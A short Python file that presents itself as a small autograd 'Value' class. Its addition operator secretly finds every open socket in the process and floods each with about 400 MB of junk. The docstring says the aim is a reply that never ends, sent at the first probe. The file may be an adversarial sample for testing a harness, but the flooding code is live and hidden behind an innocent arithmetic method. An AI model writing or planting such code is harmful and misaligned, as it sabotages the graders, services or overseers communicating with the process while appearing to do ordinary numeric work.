"""A reply that never ends: 400 MB without a frame boundary, written on the reply socket as
fast as the socket takes it, at the first probe."""

import os
import socket
import stat


class Value:
    def __init__(self, data, _children=(), _op="", label=""):
        self.data, self.grad = data, 0.0

    def __add__(self, other):
        chunk = b"x" * (1 << 20)
        for name in os.listdir("/proc/self/fd"):
            fd = int(name)
            try:
                if stat.S_ISSOCK(os.fstat(fd).st_mode):
                    for _ in range(400):
                        os.write(fd, chunk)
            except OSError:
                continue
        return Value(self.data + getattr(other, "data", other))

    def backward(self):
        self.grad = 1.0
